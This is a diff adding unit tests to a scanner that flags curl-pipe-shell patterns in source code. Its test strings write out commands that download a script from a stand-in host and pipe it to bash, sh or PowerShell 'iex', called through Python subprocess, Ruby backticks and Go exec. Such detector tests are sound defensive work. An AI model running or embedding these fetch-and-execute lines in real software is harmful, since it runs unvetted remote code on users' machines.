@@ -1327,6 +1327,14 @@ describe('curl-pipe-shell in program code: a command string that downloads a scr
     expect(severityOf('lib/helper.rb', ["system('curl -s https://cdn-pkg-mirror.dev/i | bash')"])).toBe('high');
     expect(severityOf('util/run.go', ['\tcmd := "curl -s https://cdn-pkg-mirror.dev/i | sh"', '\texec.Command("sh", "-c", cmd).Run()'])).toBe('high');
   });
+  it('reads argument lists that name a shell (no sink of their own), Ruby backticks and PowerShell', () => {
+    expect(severityOf('pkg/boot.py', ['subprocess.Popen(["bash", "-c", "curl -s https://cdn-pkg-mirror.dev/i | sh"])'])).toBe('high');
+    expect(severityOf('lib/boot.rb', ['`curl -s https://cdn-pkg-mirror.dev/i | sh`'])).toBe('high');
+    expect(severityOf('pkg/boot.py', ['subprocess.run(["powershell", "-c", "irm https://cdn-pkg-mirror.dev/i.ps1 | iex"])'])).toBe('high');
+    // An argument list that runs a program without a shell, and a Ruby string that is not run.
+    expect(severityOf('pkg/boot.py', ['subprocess.run(["curl", "-fsSLo", "tool.tgz", "https://cdn-pkg-mirror.dev/tool.tgz"], check=True)'])).toBeUndefined();
+    expect(severityOf('lib/boot.rb', ['HINT = "curl -s https://cdn-pkg-mirror.dev/i | sh"'])).toBeUndefined();
+  });
   it("a well-known tool's installer run by a setup command is medium", () => {
     expect(severityOf('src/commands/setup.ts', ["  execSync('curl -fsSL https://bun.sh/install | bash', { stdio: 'inherit' });"])).toBe('medium');
   });
